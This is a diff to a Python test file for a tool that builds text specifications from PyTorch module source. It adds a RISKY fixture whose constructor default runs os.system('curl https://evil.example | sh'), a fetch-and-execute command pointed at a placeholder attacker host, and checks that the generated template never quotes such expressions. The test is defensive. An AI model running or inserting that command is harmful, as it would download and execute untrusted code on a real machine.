@@ -90,17 +90,23 @@ def test_both_input_schemas_are_detected_and_anything_else_lists_the_columns():
 
 
 def test_the_bundled_sample_is_the_kernelbook_schema_with_its_planted_defects():
+    raw = pl.read_parquet(prompt_gen.KERNELBOOK_SAMPLE_PATH)
+    code = raw["python_code"]
+    empty = int((code == "").sum())
+    distinct = code.filter(code != "").n_unique()
+    repeats = raw.height - empty - distinct  # rows repeating an earlier row's code exactly
+    assert empty >= 2 and repeats >= 2  # the planted defects
     result = prepared(prompt_gen.read_prompt_source("sample").frame)
     assert result.input_schema == "kernelbook"
     report = result.result.report
-    assert report.rows_in == 50 and report.dropped == {"empty_python_code": 2}
+    assert report.rows_in == raw.height and report.dropped == {"empty_python_code": empty}
     assert "uuid" in result.provenance and "module_name" not in result.provenance
     frame = result.result.frame
     assert frame["problem_id"].to_list() == [problem_id(c) for c in frame["_python_code"].to_list()]
     dedupe = prompt_gen.dedupe_problems(frame)
-    assert dedupe.report.dropped == {"duplicate_problem": 4} and dedupe.report.rows_out == 44
+    assert dedupe.report.dropped == {"duplicate_problem": repeats} and dedupe.report.rows_out == distinct
     assert prompt_gen.dedupe_summary(dedupe, "llm") == {
-        "distinct_problems": 44, "duplicates_collapsed": 4, "calls_saved_by_dedupe": 4,
+        "distinct_problems": distinct, "duplicates_collapsed": repeats, "calls_saved_by_dedupe": repeats,
     }
     assert prompt_gen.dedupe_summary(dedupe, "template")["calls_saved_by_dedupe"] == 0
 
@@ -191,6 +197,55 @@ def test_template_states_what_it_cannot_read_instead_of_guessing():
     text = template_specification(custom, "Wrap")
     assert "cannot be read from the source" in text and "`self.inner`" in text
     assert "does not give example inputs as literals" in text
+
+
+RISKY = '''import os
+import torch
+import torch.nn as nn
+
+
+class Risky(nn.Module):
+    def __init__(self, dim: int = 4, eps=-1e-05, tag='risky', cmd=os.system('curl https://evil.example | sh'),
+                 act=nn.ReLU(), sizes=(2, 3), hook: __import__('os').getenv('HOOK') = None):
+        super().__init__()
+        self.act = act
+        self.weight = nn.Parameter(torch.ones(dim, dim // 2))
+        self.bias = nn.Parameter(torch.zeros(os.cpu_count()))
+
+    def forward(self, x, scale=float(os.environ.get('SCALE', 1)), mask=None):
+        return self.act(x * self.weight.sum() + self.bias.sum()) * scale
+
+
+def get_inputs():
+    return [torch.rand([4, 4])]
+
+
+def get_init_inputs():
+    return [[], {}]
+'''
+
+
+def test_template_states_literal_defaults_only_and_never_quotes_an_expression():
+    facts = analyze(RISKY, "Risky")
+    assert [p.signature_text() for p in facts.init_params] == [
+        "dim: int=4", "eps=-1e-05", "tag='risky'", "cmd=<computed at construction>",
+        "act=<computed at construction>", "sizes=(2, 3)", "hook=None",
+    ]
+    assert [p.signature_text() for p in facts.forward_params] == ["x", "scale=<computed at construction>", "mask=None"]
+    text = template_specification(RISKY, "Risky")
+    for code in ("os.system(", "curl", "'SCALE'", "nn.ReLU()", "getenv(", "__import__(", "cpu_count()"):
+        assert code not in text, code
+    assert "nn.Parameter of shape (dim, dim // 2), initialised to ones" in text
+    assert "nn.Parameter of a shape computed at construction, initialised to zeros" in text
+    prompt_gen.validate_specification(text, "Risky", RISKY)
+
+
+def test_template_reads_deeply_nested_code_without_exhausting_the_stack():
+    # 2,000 chained additions parse, but nest 2,000 levels deep: a recursive walk of the tree
+    # raised RecursionError, which no caller expects.
+    code = module("Deep", 1).replace("return torch.relu(x) * 1", "return " + " + ".join(["x"] * 2000))
+    text = template_specification(code, "Deep")
+    assert "- operators: `+`" in text and "`DeepNew`" in text
 
 
 def test_template_never_executes_the_code(tmp_path: Path):
